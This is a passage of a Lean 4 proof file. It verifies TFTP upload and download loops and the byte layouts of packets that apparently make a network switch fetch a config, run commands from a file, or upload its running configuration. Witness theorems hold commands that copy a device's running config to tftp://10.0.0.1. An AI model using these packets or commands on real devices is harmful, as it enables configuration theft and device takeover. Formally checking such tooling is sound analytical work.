      ∧ (content.length % 512 = 0 →
          specDatagram content (content.length / 512 + 1)
            = [0, 3, toByte (((content.length / 512 + 1) % 65536 / 256 : Nat)),
                toByte (((content.length / 512 + 1) % 65536 % 256 : Nat))]) := by
  have hd : ∀ i, specDatagram content (i + 1)
      = dataPacket ((i + 1) % 65536) ((content.drop (512 * i)).take 512) := by
    intro i
    rw [dataPacket_eq, specDatagram, sliceBytes_chunk]
  have hp : ∀ i, (specDatagram content (i + 1)).drop 4 = (content.drop (512 * i)).take 512 := by
    intro i
    rw [specDatagram, sliceBytes_chunk]; rfl
  refine ⟨?_, by simp, ?_, ?_, ?_, ?_⟩
  · have := sendFileLoop_regular fuel content 1 hfuel
    simp only [sendFile, hd]
    rw [show (1 : Nat) = 1 % 65536 from rfl, this]
    simp [Nat.add_comm]
  · simp only [hp]
    exact chunks_flatten _ content rfl
  · intro i hi
    rw [hp, List.length_take, List.length_drop]
    have := Nat.div_mul_le_self content.length 512
    have : 512 * (i + 1) ≤ content.length := by
      calc 512 * (i + 1) ≤ 512 * (content.length / 512) := Nat.mul_le_mul_left _ hi
        _ ≤ content.length := by omega
    omega
  · rw [hp, List.length_take, List.length_drop]
    omega
  · intro hm
    have hz : (content.drop (512 * (content.length / 512))).take 512 = [] := by
      have : content.length ≤ 512 * (content.length / 512) := by omega
      rw [List.drop_of_length_le this]; rfl
    rw [hd, dataPacket_eq, hz, List.append_nil]

/-- A 513-byte file goes out as a full block 1 and a one-byte block 2. -/
theorem sendFile_datagrams_witness :
    (zeros 512 ++ [7]).length / 512 + 1 ≤ 2
      ∧ sendFile 2 (.regular (zeros 512 ++ [7]))
          = some [[0, 3, 0, 1] ++ zeros 512, [0, 3, 0, 2, 7]] :=
  ⟨by decide, (sendFile_datagrams (zeros 512 ++ [7]) 2 (by decide)).1.trans (by decide)⟩

/-! ### Upload: `receiveFile` -/

theorem shl8_or (a b : Byte) : (a.val <<< 8) ||| b.val = 256 * a.val + b.val := by
  have h := Nat.mul_add_lt_is_or (by omega : b.val < 2 ^ 8) a.val
  rw [Nat.shiftLeft_eq, Nat.mul_comm, ← h]

theorem toByte_val (a : Byte) : toByte (a.val : Nat) = a := by
  apply Fin.ext
  simp only [toByte]
  omega

theorem ackOf_eq (data : List Byte) : ackOf data = [0, 4, data.getD 2 0, data.getD 3 0] := by
  have h1 : blockOf data / 256 = (data.getD 2 0).val := by simp only [blockOf]; omega
  have h2 : blockOf data % 256 = (data.getD 3 0).val := by simp only [blockOf]; omega
  simp only [ackOf, h1, h2, toByte_val]

/-- One iteration of the receive loop, read through `accepts`. -/
theorem receiveStep_eq (clientAddr : UDPAddr) (st : Upload) (d : Inbound)
    (hrun : st.finished = false) (hfit : d.data.length ≤ 65536) :
    receiveStep clientAddr st d
      = if accepts clientAddr st.expectedBlock d then
          { file := st.file ++ payloadOf d.data, sent := st.sent ++ [ackOf d.data],
            expectedBlock := if (payloadOf d.data).length < 512 then st.expectedBlock
              else (st.expectedBlock + 1) % 65536,
            finished := decide ((payloadOf d.data).length < 512) }
        else st := by
  have htake : d.data.take 65536 = d.data := List.take_of_length_le hfit
  simp only [receiveStep, hrun, htake, shl8_or, accepts, payloadOf, ackOf_eq, opcodeOf, blockOf,
    Bool.false_eq_true, if_false, List.length_drop]
  generalize d.data.getD 0 0 = b0
  generalize d.data.getD 1 0 = b1
  generalize d.data.getD 2 0 = b2
  generalize d.data.getD 3 0 = b3
  by_cases hip : ipEqual d.addr.IP clientAddr.IP = true
  · by_cases hport : d.addr.Port = clientAddr.Port
    · by_cases hn : d.data.length < 4
      · have : ¬ 4 ≤ d.data.length := by omega
        simp [hip, hport, hn, this]
      · have h4 : 4 ≤ d.data.length := by omega
        by_cases hop : 256 * b0.val + b1.val = 3
        · by_cases hblk : 256 * b2.val + b3.val = st.expectedBlock
          · have htk : List.take (d.data.length - 4) (List.drop 4 d.data) = List.drop 4 d.data :=
              List.take_of_length_le (by simp)
            by_cases hpos : d.data.length - 4 > 0
            · by_cases hlt : d.data.length - 4 < 512
              · simp [hip, hport, hn, h4, hop, hblk, htk, hpos, hlt]
              · simp [hip, hport, hn, h4, hop, hblk, htk, hpos, hlt]
            · have hnil : List.drop 4 d.data = [] := List.drop_of_length_le (by omega)
              have hlt : d.data.length - 4 < 512 := by omega
              simp [hip, hport, hn, h4, hop, hblk, hnil, hpos, hlt]
          · simp [hip, hport, hn, h4, hop, hblk]
        · simp [hip, hport, hn, h4, hop]
    · simp [hip, hport]
  · simp [hip]

theorem receiveStep_finished (clientAddr : UDPAddr) (st : Upload) (d : Inbound)
    (h : st.finished = true) : receiveStep clientAddr st d = st := by
  simp [receiveStep, h]

theorem receiveLoop_finished (clientAddr : UDPAddr) (ds : List Inbound) (st : Upload)
    (h : st.finished = true) : ds.foldl (receiveStep clientAddr) st = st := by
  induction ds with
  | nil => rfl
  | cons d rest ih => rw [List.foldl_cons, receiveStep_finished clientAddr st d h, ih]

/-- The receive loop from any running state: the file grows by the payloads of
the accepted datagrams and one acknowledgment goes out for each. -/
theorem receiveLoop_accepted (clientAddr : UDPAddr) (ds : List Inbound) :
    ∀ st : Upload, st.finished = false → (∀ d ∈ ds, d.data.length ≤ 65536) →
      (ds.foldl (receiveStep clientAddr) st).file
          = st.file ++ ((acceptedFrom clientAddr st.expectedBlock ds).map
              (fun d => payloadOf d.data)).flatten
        ∧ (ds.foldl (receiveStep clientAddr) st).sent
          = st.sent ++ (acceptedFrom clientAddr st.expectedBlock ds).map
              (fun d => ackOf d.data) := by
  induction ds with
  | nil => intro st _ _; simp [acceptedFrom]
  | cons d rest ih =>
    intro st hrun hfit
    have hd : d.data.length ≤ 65536 := hfit d (List.mem_cons_self _ _)
    have hrest : ∀ x ∈ rest, x.data.length ≤ 65536 :=
      fun x hx => hfit x (List.mem_cons_of_mem _ hx)
    rw [List.foldl_cons, receiveStep_eq clientAddr st d hrun hd]
    by_cases hacc : accepts clientAddr st.expectedBlock d = true
    · by_cases hshort : (payloadOf d.data).length < 512
      · simp only [hacc, hshort, if_true, acceptedFrom, decide_True]
        rw [receiveLoop_finished clientAddr rest _ rfl]
        simp
      · simp only [hacc, hshort, if_true, if_false, acceptedFrom, decide_False]
        have := ih ⟨st.file ++ payloadOf d.data, st.sent ++ [ackOf d.data],
          (st.expectedBlock + 1) % 65536, false⟩ rfl hrest
        simp only [this, List.map_cons, List.flatten_cons, List.append_assoc, List.singleton_append,
          and_self]
    · simp only [hacc, acceptedFrom, Bool.false_eq_true, if_false]
      exact ih st hrun hrest

theorem getD_take_small (l : List Byte) (i : Nat) (hi : i < 65536) :
    (l.take 65536).getD i 0 = l.getD i 0 := by
  simp [List.getD_eq_getElem?_getD, List.getElem?_take, hi]

/-- A datagram whose block number is not the expected one changes nothing. -/
theorem receiveStep_other_block (clientAddr : UDPAddr) (st : Upload) (d : Inbound)
    (h : blockOf d.data ≠ st.expectedBlock) : receiveStep clientAddr st d = st := by
  simp only [receiveStep, shl8_or, getD_take_small d.data 2 (by decide),
    getD_take_small d.data 3 (by decide)]
  simp only [blockOf] at h
  generalize d.data.getD 2 0 = b2 at h ⊢
  generalize d.data.getD 3 0 = b3 at h ⊢
  simp only [ne_eq, h, not_false_eq_true, if_true, ite_self]

/-- C3. For every sequence of inbound datagrams that fit the receive buffer, the
bytes `receiveFile` writes are the payloads of the accepted datagrams in arrival
order, its replies are the ACK for block 0 followed by one ACK per accepted
datagram, and a datagram that is not accepted leaves the state as it is: no
write and no reply. -/
theorem receiveFile_accepted (clientAddr : UDPAddr) (inbound : List Inbound)
    (hfit : ∀ d ∈ inbound, d.data.length ≤ 65536) :
    (receiveFile clientAddr inbound).file
        = ((acceptedFrom clientAddr 1 inbound).map (fun d => payloadOf d.data)).flatten
      ∧ (receiveFile clientAddr inbound).sent
        = [0, 4, 0, 0] :: (acceptedFrom clientAddr 1 inbound).map (fun d => ackOf d.data)
      ∧ ∀ (st : Upload) (d : Inbound), d.data.length ≤ 65536 →
          accepts clientAddr st.expectedBlock d = false → receiveStep clientAddr st d = st := by
  refine ⟨?_, ?_, ?_⟩
  · simpa [receiveFile] using (receiveLoop_accepted clientAddr inbound _ rfl hfit).1
  · simpa [receiveFile] using (receiveLoop_accepted clientAddr inbound _ rfl hfit).2
  · intro st d hd hacc
    by_cases hfin : st.finished = true
    · exact receiveStep_finished clientAddr st d hfin
    · rw [receiveStep_eq clientAddr st d (by simpa using hfin) hd, hacc]
      rfl

/-- C4, as amended. A DATA block `N` that arrives while block `N + 1` is expected
changes nothing: it is not acknowledged again and its payload is not appended. -/
theorem receiveFile_duplicate_ignored (clientAddr : UDPAddr) (earlier : List Inbound)
    (d : Inbound)
    (hdup : (receiveFile clientAddr earlier).expectedBlock = (blockOf d.data + 1) % 65536) :
    receiveFile clientAddr (earlier ++ [d]) = receiveFile clientAddr earlier := by
  have hne : blockOf d.data ≠ (receiveFile clientAddr earlier).expectedBlock := by
    have : blockOf d.data < 65536 := by
      simp only [blockOf]
      omega
    omega
  simp only [receiveFile, List.foldl_append, List.foldl_cons, List.foldl_nil] at hne ⊢
  exact receiveStep_other_block clientAddr _ d hne

/-- A datagram from another sender is passed over, then block 1 with a two-byte
payload is written, acknowledged, and ends the transfer. -/
theorem receiveFile_accepted_witness :
    (∀ d ∈ [(⟨⟨[10, 0, 0, 9], 4000⟩, [0, 3, 0, 1, 1]⟩ : Inbound),
            ⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1, 104, 105]⟩], d.data.length ≤ 65536)
      ∧ (receiveFile ⟨[10, 0, 0, 2], 4000⟩
            [⟨⟨[10, 0, 0, 9], 4000⟩, [0, 3, 0, 1, 1]⟩,
             ⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1, 104, 105]⟩]).file = [104, 105]
      ∧ (receiveFile ⟨[10, 0, 0, 2], 4000⟩
            [⟨⟨[10, 0, 0, 9], 4000⟩, [0, 3, 0, 1, 1]⟩,
             ⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1, 104, 105]⟩]).sent
          = [[0, 4, 0, 0], [0, 4, 0, 1]] :=
  ⟨by decide,
   (receiveFile_accepted ⟨[10, 0, 0, 2], 4000⟩ _ (by decide)).1.trans (by decide),
   (receiveFile_accepted ⟨[10, 0, 0, 2], 4000⟩ _ (by decide)).2.1.trans (by decide)⟩

/-- C4 fails as stated. Block 1 with a full payload is accepted and block 2 is
expected; when block 1 arrives again, the replies are still the ACK for block 0
and a single ACK for block 1. -/
theorem receiveFile_duplicate_not_acked :
    (receiveFile ⟨[10, 0, 0, 2], 4000⟩
        [⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩]).expectedBlock = 2
      ∧ (receiveFile ⟨[10, 0, 0, 2], 4000⟩
          [⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩]).sent
          = [[0, 4, 0, 0], [0, 4, 0, 1]]
      ∧ (receiveFile ⟨[10, 0, 0, 2], 4000⟩
          [⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩,
           ⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩]).sent
          = [[0, 4, 0, 0], [0, 4, 0, 1]]
      ∧ (receiveFile ⟨[10, 0, 0, 2], 4000⟩
          [⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩,
           ⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩]).sent.count [0, 4, 0, 1] = 1 := by
  decide

/-- After block 1 is accepted block 2 is expected; block 1 again changes nothing. -/
theorem receiveFile_duplicate_ignored_witness :
    (receiveFile ⟨[10, 0, 0, 2], 4000⟩
        [⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩]).expectedBlock
        = (blockOf ([0, 3, 0, 1] ++ zeros 512) + 1) % 65536
      ∧ receiveFile ⟨[10, 0, 0, 2], 4000⟩
          ([⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩]
            ++ [⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩])
        = receiveFile ⟨[10, 0, 0, 2], 4000⟩
            [⟨⟨[10, 0, 0, 2], 4000⟩, [0, 3, 0, 1] ++ zeros 512⟩] :=
  ⟨by decide, receiveFile_duplicate_ignored _ _ _ (by decide)⟩


/-! ### `strconv.Atoi` on numerals -/

theorem isDigits_iff (s : List Byte) :
    isDigits s = true ↔ s ≠ [] ∧ ∀ c ∈ s, 48 ≤ c.val ∧ c.val ≤ 57 := by
  cases s <;> simp [isDigits]

theorem decimal_foldl_le (s : List Byte) : ∀ n : Nat,
    n ≤ s.foldl (fun n c => 10 * n + (c.val - 48)) n := by
  induction s with
  | nil => intro n; exact le_refl _
  | cons c cs ih =>
    intro n
    rw [List.foldl_cons]
    exact le_trans (by omega) (ih _)

theorem atoiFastLoop_digits (s : List Byte) : ∀ n : Nat,
    (∀ c ∈ s, 48 ≤ c.val ∧ c.val ≤ 57) →
    atoiFastLoop s (n : Int) = some ((s.foldl (fun n c => 10 * n + (c.val - 48)) n : Nat) : Int) := by
  induction s with
  | nil => intro n _; rfl
  | cons c cs ih =>
    intro n h
    have hc := h c (List.mem_cons_self _ _)
    have hd : ¬ (c.val + 256 - 48) % 256 > 9 := by omega
    have e : ((n : Int) * 10 + (((c.val + 256 - 48) % 256 : Nat) : Int))
        = ((10 * n + (c.val - 48) : Nat) : Int) := by omega
    simp only [atoiFastLoop, hd, if_false, List.foldl_cons]
    rw [e]
    exact ih _ (fun x hx => h x (List.mem_cons_of_mem _ hx))

theorem parseUintLoop_digits (s : List Byte) : ∀ n : Nat,
    (∀ c ∈ s, 48 ≤ c.val ∧ c.val ≤ 57) →
    s.foldl (fun n c => 10 * n + (c.val - 48)) n < 2 ^ 64 →
    parseUintLoop s n = (s.foldl (fun n c => 10 * n + (c.val - 48)) n, none) := by
  induction s with
  | nil => intro n _ _; rfl
  | cons c cs ih =>
    intro n h hlt
    have hc := h c (List.mem_cons_self _ _)
    rw [List.foldl_cons] at hlt ⊢
    have hmono := decimal_foldl_le cs (10 * n + (c.val - 48))
    have h1 : ¬ n ≥ (2 ^ 64 - 1) / 10 + 1 := by norm_num at hlt ⊢; omega
    have h2 : (n * 10 + (c.val - 48)) % 2 ^ 64 = 10 * n + (c.val - 48) := by
      norm_num at hlt ⊢; omega
    simp only [parseUintLoop, hc, and_self, if_true, h1, if_false, h2]
    have h3 : ¬ (10 * n + (c.val - 48) < n * 10 ∨ 10 * n + (c.val - 48) > 2 ^ 64 - 1) := by
      norm_num at hlt ⊢; omega
    rw [if_neg h3]
    exact ih _ (fun x hx => h x (List.mem_cons_of_mem _ hx)) hlt

/-- `strconv.Atoi` on a decimal numeral below `2^63` returns its value and no
error. -/
theorem atoi_digits (s : List Byte) (hs : isDigits s = true) (hv : decimalValue s < 2 ^ 63) :
    atoi s = ((decimalValue s : Int), none) := by
  rw [isDigits_iff] at hs
  obtain ⟨hne, hall⟩ := hs
  cases s with
  | nil => exact absurd rfl hne
  | cons c cs =>
    have hc := hall c (List.mem_cons_self _ _)
    have h45 : c ≠ 45 := by intro h; rw [h] at hc; exact absurd hc (by decide)
    have h43 : c ≠ 43 := by intro h; rw [h] at hc; exact absurd hc (by decide)
    by_cases hlen : 0 < (c :: cs).length ∧ (c :: cs).length < 19
    · have := atoiFastLoop_digits (c :: cs) 0 hall
      simp only [Nat.cast_zero] at this
      simp only [atoi, hlen, and_self, if_true, h45, h43, or_self, false_and, if_false, this]
      rfl
    · have hp := parseUintLoop_digits (c :: cs) 0 hall
        (lt_trans hv (by norm_num))
      have hv' : ¬ (c :: cs).foldl (fun n c => 10 * n + (c.val - 48)) 0 ≥ 2 ^ 63 := by
        simp only [decimalValue] at hv; omega
      simp only [atoi, hlen, if_false, parseInt, h45, h43, or_self, decide_False, parseUint,
        List.isEmpty_cons, Bool.false_eq_true, hp, Bool.not_false, true_and, hv', false_and]
      simp [decimalValue]

/-! ### Packet layouts -/

theorem changeConfigHeader_decoded :
    hexDecodeString changeConfigHeader = (changeConfigHeaderBytes, false) := by decide

theorem executeHeader_decoded :
    hexDecodeString executeHeader = (executeHeaderBytes, false) := by decide

theorem getConfigHeader_decoded :
    hexDecodeString getConfigHeader = (getConfigHeaderBytes, false) := by decide

theorem makeBytes_of_le (w n : Nat) (h : n ≤ w) :
    makeBytes ((w : Int) - (n : Int)) = some (zeros (w - n)) := by
  have h1 : ¬ ((w : Int) - (n : Int) < 0) := by omega
  have h2 : ((w : Int) - (n : Int)).toNat = w - n := by omega
  simp only [makeBytes, h1, if_false, h2]

theorem makeBytes_of_lt (w n : Nat) (h : w < n) : makeBytes ((w : Int) - (n : Int)) = none := by
  have h1 : (w : Int) - (n : Int) < 0 := by omega
  simp only [makeBytes, h1, if_true]

theorem stringsSplit_no_sep (sep : Byte) (s : List Byte) (h : sep ∉ s) :
    stringsSplit sep s = [s] := by
  induction s with
  | nil => rfl
  | cons c cs ih =>
    have hc : c ≠ sep := fun e => h (e ▸ List.mem_cons_self _ _)
    have hcs : sep ∉ cs := fun m => h (List.mem_cons_of_mem _ m)
    simp only [stringsSplit, hc, if_false, ih hcs]

theorem stringsSplit_sep (sep : Byte) (a b : List Byte) (h : sep ∉ a) :
    stringsSplit sep (a ++ sep :: b) = a :: stringsSplit sep b := by
  induction a with
  | nil => simp [stringsSplit]
  | cons c cs ih =>
    have hc : c ≠ sep := fun e => h (e ▸ List.mem_cons_self _ _)
    have hcs : sep ∉ cs := fun m => h (List.mem_cons_of_mem _ m)
    have ih1 := ih hcs
    rw [List.cons_append, stringsSplit, if_neg hc, ih1]

theorem digits_no_colon (s : List Byte) (hs : isDigits s = true) : (58 : Byte) ∉ s := by
  intro hm
  have := ((isDigits_iff s).1 hs).2 58 hm
  exact absurd this (by decide)

/-- The packet of `buildChangeConfigPacket` for a reload time made of two
decimal numerals around a colon. -/
theorem buildChangeConfigPacket_numerals (tftpPath hh mm : List Byte)
    (hL : tftpPath.length ≤ 264)
    (hhd : isDigits hh = true) (hhv : decimalValue hh < 2 ^ 63)
    (hmd : isDigits mm = true) (hmv : decimalValue mm < 2 ^ 63) :
    buildChangeConfigPacket tftpPath (hh ++ 58 :: mm)
      = some (changeConfigHeaderBytes
          ++ [toByte (decimalValue hh : Nat), 0, 0, 0, 0, 0, toByte (decimalValue mm : Nat), 0]
          ++ zeros 264 ++ tftpPath ++ zeros (264 - tftpPath.length)) := by
  have hsplit : stringsSplit 58 (hh ++ 58 :: mm) = [hh, mm] := by
    rw [stringsSplit_sep 58 hh mm (digits_no_colon hh hhd),
      stringsSplit_no_sep 58 mm (digits_no_colon mm hmd)]
  have hmk := makeBytes_of_le 264 tftpPath.length hL
  simp only [Nat.cast_ofNat] at hmk
  simp [buildChangeConfigPacket, hsplit, atoi_digits hh hhd hhv, atoi_digits mm hmd hmv,
    changeConfigHeader_decoded, hmk]

theorem drop_take_middle {α : Type} (a m b : List α) :
    ((a ++ m ++ b).drop a.length).take m.length = m := by
  rw [List.append_assoc, List.drop_left, List.take_left]

theorem toByte_nat_val (n : Nat) (h : n ≤ 255) : (toByte (n : Nat)).val = n := by
  simp only [toByte]
  omega

theorem zeros_length (n : Nat) : (zeros n).length = n := by simp [zeros]

theorem decimalValue_two (s : List Byte) (h2 : s.length = 2) (hd : isDigits s = true) :
    decimalValue s ≤ 99 := by
  match s, h2 with
  | [a, b], _ =>
    have ha := ((isDigits_iff _).1 hd).2 a (by simp)
    have hb := ((isDigits_iff _).1 hd).2 b (by simp)
    simp only [decimalValue, List.foldl_cons, List.foldl_nil]
    omega

/-- The packet of `buildExecutePacket` for a path that fits its field. -/
theorem buildExecutePacket_eq (tftpPath : List Byte) (hL : tftpPath.length ≤ 131) :
    buildExecutePacket tftpPath
      = some (executeHeaderBytes ++ zeros 128 ++ zeros 264 ++ tftpPath
          ++ zeros (131 - tftpPath.length) ++ [1]) := by
  have hmk := makeBytes_of_le 131 tftpPath.length hL
  simp only [Nat.cast_ofNat] at hmk
  simp [buildExecutePacket, executeHeader_decoded, hmk]

/-- C5, as amended. For every TFTP URL of `L ≤ 264` bytes and every reload time
`HH:MM` (two decimal digits, a colon, two decimal digits)
`buildChangeConfigPacket` returns the 42-byte header, the 8 reload-time bytes
(hour, five zeros, minute, zero), 264 zero bytes, and the URL followed by
`264 - L` zero bytes: 42 + 8 + 264 + 264 = 578 bytes whatever `L`. -/
theorem buildChangeConfigPacket_layout (tftpPath hh mm : List Byte)
    (hL : tftpPath.length ≤ 264)
    (hh2 : hh.length = 2) (hhd : isDigits hh = true)
    (hm2 : mm.length = 2) (hmd : isDigits mm = true) :
    buildChangeConfigPacket tftpPath (hh ++ 58 :: mm)
        = some (changeConfigHeaderBytes
            ++ [toByte (decimalValue hh : Nat), 0, 0, 0, 0, 0, toByte (decimalValue mm : Nat), 0]
            ++ zeros 264 ++ tftpPath ++ zeros (264 - tftpPath.length))
      ∧ changeConfigHeaderBytes.length = 42
      ∧ (changeConfigHeaderBytes
            ++ [toByte (decimalValue hh : Nat), 0, 0, 0, 0, 0, toByte (decimalValue mm : Nat), 0]
            ++ zeros 264 ++ tftpPath ++ zeros (264 - tftpPath.length)).length = 578 := by
  have hhv : decimalValue hh < 2 ^ 63 := by
    have := decimalValue_two hh hh2 hhd
    norm_num; omega
  have hmv : decimalValue mm < 2 ^ 63 := by
    have := decimalValue_two mm hm2 hmd
    norm_num; omega
  refine ⟨buildChangeConfigPacket_numerals tftpPath hh mm hL hhd hhv hmd hmv, rfl, ?_⟩
  simp only [List.length_append, zeros_length, List.length_cons, List.length_nil,
    changeConfigHeaderBytes]
  omega

/-- C10. For every TFTP URL of `L ≤ 131` bytes `buildExecutePacket` returns the
20-byte header, 128 zero bytes, 264 zero bytes, the URL followed by `131 - L`
zero bytes, and a final byte `0x01`: 544 bytes, the URL starting at offset 412
and the last byte being `0x01`. -/
theorem buildExecutePacket_layout (tftpPath : List Byte) (hL : tftpPath.length ≤ 131) :
    ∃ packet, buildExecutePacket tftpPath = some packet
      ∧ packet = executeHeaderBytes ++ zeros 128 ++ zeros 264 ++ tftpPath
          ++ zeros (131 - tftpPath.length) ++ [1]
      ∧ executeHeaderBytes.length = 20
      ∧ packet.length = 544
      ∧ (packet.drop 412).take tftpPath.length = tftpPath
      ∧ packet.getLast? = some 1 := by
  refine ⟨_, buildExecutePacket_eq tftpPath hL, rfl, rfl, ?_, ?_, ?_⟩
  · simp only [List.length_append, zeros_length, List.length_cons, List.length_nil,
      executeHeaderBytes]
    omega
  · have h412 : (executeHeaderBytes ++ zeros 128 ++ zeros 264).length = 412 := by
      simp [zeros_length, executeHeaderBytes]
    have := drop_take_middle (executeHeaderBytes ++ zeros 128 ++ zeros 264) tftpPath
      (zeros (131 - tftpPath.length) ++ [1])
    rw [h412] at this
    simpa only [List.append_assoc] using this
  · simp

/-- C5 fails as stated. The header of the change-config packet has 42 bytes, not
44, and the packet for a URL of 28 bytes has 578 bytes, not 580. -/
theorem buildChangeConfigPacket_not_580 :
    (hexDecodeString changeConfigHeader).1.length = 42
      ∧ (buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf") (str "00:01")).map
          List.length = some 578
      ∧ (buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf") (str "00:01")).map
          List.length ≠ some 580 := by
  decide

/-- The packet for `tftp://10.0.0.1/default.conf` and reload time `00:01`. -/
theorem buildChangeConfigPacket_layout_witness :
    (str "tftp://10.0.0.1/default.conf").length ≤ 264
      ∧ (str "00").length = 2 ∧ isDigits (str "00") = true
      ∧ (str "01").length = 2 ∧ isDigits (str "01") = true
      ∧ buildChangeConfigPacket (str "tftp://10.0.0.1/default.conf") (str "00" ++ 58 :: str "01")
        = some (changeConfigHeaderBytes ++ [0, 0, 0, 0, 0, 0, 1, 0] ++ zeros 264
            ++ str "tftp://10.0.0.1/default.conf" ++ zeros 236) :=
  ⟨by decide, by decide, by decide, by decide, by decide,
   (buildChangeConfigPacket_layout (str "tftp://10.0.0.1/default.conf") (str "00") (str "01")
      (by decide) (by decide) (by decide) (by decide) (by decide)).1.trans (by decide)⟩

/-- The packet for `tftp://10.0.0.1/execute.txt`. -/
theorem buildExecutePacket_layout_witness :
    (str "tftp://10.0.0.1/execute.txt").length ≤ 131
      ∧ ∃ packet, buildExecutePacket (str "tftp://10.0.0.1/execute.txt") = some packet
          ∧ packet.length = 544
          ∧ (packet.drop 412).take 27 = str "tftp://10.0.0.1/execute.txt"
          ∧ packet.getLast? = some 1 :=
  ⟨by decide,
   match buildExecutePacket_layout (str "tftp://10.0.0.1/execute.txt") (by decide) with
   | ⟨packet, h1, _, _, h4, h5, h6⟩ => ⟨packet, h1, h4, h5, h6⟩⟩

/-- C6 fails as stated. The header of the get-config packet has 42 bytes, not
43, and the packet has 714 bytes, not 715. -/
theorem buildGetConfigPacket_not_715 :
    (hexDecodeString getConfigHeader).1.length = 42
      ∧ (buildGetConfigPacket (str "copy system:running-config flash:/config.text")
          (str "copy flash:/config.text tftp://10.0.0.1/10.0.0.2.conf")).length = 714
      ∧ (buildGetConfigPacket (str "copy system:running-config flash:/config.text")
          (str "copy flash:/config.text tftp://10.0.0.1/10.0.0.2.conf")).length ≠ 715 := by
  decide

theorem padCommand_length (cmd : List Byte) (length : Nat) :
    (padCommand cmd length).length = length := by
  simp only [padCommand]
  split
  · rw [List.length_take]; omega
  · rw [List.length_append, zeros_length]; omega

/-- C6, as amended. For every pair of commands `buildGetConfigPacket` returns
the 42-byte header followed by two fields of 336 bytes, 714 bytes in all; a
field holds its command followed by zero bytes when the command is shorter than
336 bytes, and the first 336 bytes of the command otherwise. -/
theorem buildGetConfigPacket_layout (cmd1 cmd2 : List Byte) :
    buildGetConfigPacket cmd1 cmd2
        = getConfigHeaderBytes
          ++ (if cmd1.length < 336 then cmd1 ++ zeros (336 - cmd1.length) else cmd1.take 336)
          ++ (if cmd2.length < 336 then cmd2 ++ zeros (336 - cmd2.length) else cmd2.take 336)
      ∧ getConfigHeaderBytes.length = 42
      ∧ (if cmd1.length < 336 then cmd1 ++ zeros (336 - cmd1.length) else cmd1.take 336).length
          = 336
      ∧ (if cmd2.length < 336 then cmd2 ++ zeros (336 - cmd2.length) else cmd2.take 336).length
          = 336
      ∧ (buildGetConfigPacket cmd1 cmd2).length = 714 := by
  have hp : ∀ cmd : List Byte, padCommand cmd 336
      = if cmd.length < 336 then cmd ++ zeros (336 - cmd.length) else cmd.take 336 := by
    intro cmd
    simp only [padCommand]
    by_cases h : cmd.length < 336
    · have : ¬ cmd.length ≥ 336 := by omega
      simp only [h, this, if_true, if_false]
    · have : cmd.length ≥ 336 := by omega
      simp only [h, this, if_true, if_false]
  have hb : buildGetConfigPacket cmd1 cmd2
      = getConfigHeaderBytes ++ padCommand cmd1 336 ++ padCommand cmd2 336 := by
    simp only [buildGetConfigPacket, getConfigHeader_decoded]
  refine ⟨by rw [hb, hp, hp], rfl, ?_, ?_, ?_⟩
  · rw [← hp]; exact padCommand_length _ _
  · rw [← hp]; exact padCommand_length _ _
  · rw [hb, List.length_append, List.length_append, padCommand_length, padCommand_length]
    rfl

/-- C7 fails on the code. A TFTP URL one byte longer than the field (265 bytes
for change-config, 132 for execute) makes the padding length `-1`, and `make`
panics: neither builder returns a packet. -/
theorem builders_panic_on_long_url :
    (264 : Int) - ((str "tftp://" ++ List.replicate 245 97 ++ str "/default.conf").length : Int)
        = -1
      ∧ buildChangeConfigPacket (str "tftp://" ++ List.replicate 245 97 ++ str "/default.conf")
          (str "00:01") = none
      ∧ (131 : Int) - ((str "tftp://" ++ List.replicate 113 97 ++ str "/execute.txt").length : Int)
        = -1
      ∧ buildExecutePacket (str "tftp://" ++ List.replicate 113 97 ++ str "/execute.txt")
        = none := by
  decide

/-! ### Reload-time parsing -/

theorem atoiFastLoop_some (s : List Byte) : ∀ (n : Nat) (v : Int),
    atoiFastLoop s (n : Int) = some v →
    (∀ c ∈ s, 48 ≤ c.val ∧ c.val ≤ 57)
      ∧ v = ((s.foldl (fun n c => 10 * n + (c.val - 48)) n : Nat) : Int) := by
  induction s with
  | nil =>
    intro n v h
    simp only [atoiFastLoop, Option.some.injEq] at h
    simp [h]
  | cons c cs ih =>
    intro n v h
    by_cases hd : (c.val + 256 - 48) % 256 > 9
    · simp only [atoiFastLoop] at h
      rw [if_pos hd] at h
      cases h
    · have hc : 48 ≤ c.val ∧ c.val ≤ 57 := by omega
      have e : ((n : Int) * 10 + (((c.val + 256 - 48) % 256 : Nat) : Int))
          = ((10 * n + (c.val - 48) : Nat) : Int) := by omega
      simp only [atoiFastLoop, hd, if_false] at h
      rw [e] at h
      obtain ⟨h1, h2⟩ := ih _ v h
      refine ⟨?_, by simpa using h2⟩
      intro x hx
      rcases List.mem_cons.1 hx with hx | hx
      · rw [hx]; exact hc
      · exact h1 x hx

theorem parseUintLoop_ok (s : List Byte) : ∀ (n v : Nat),
    parseUintLoop s n = (v, none) →
    (∀ c ∈ s, 48 ≤ c.val ∧ c.val ≤ 57) ∧ v = s.foldl (fun n c => 10 * n + (c.val - 48)) n := by
  induction s with
  | nil =>
    intro n v h
    simp only [parseUintLoop, Prod.mk.injEq, and_true] at h
    simp [h]
  | cons c cs ih =>
    intro n v h
    by_cases hc : 48 ≤ c.val ∧ c.val ≤ 57
    · simp only [parseUintLoop, hc, and_self, if_true] at h
      by_cases h1 : n ≥ (2 ^ 64 - 1) / 10 + 1
      · rw [if_pos h1] at h
        exact absurd (congrArg Prod.snd h) (by simp)
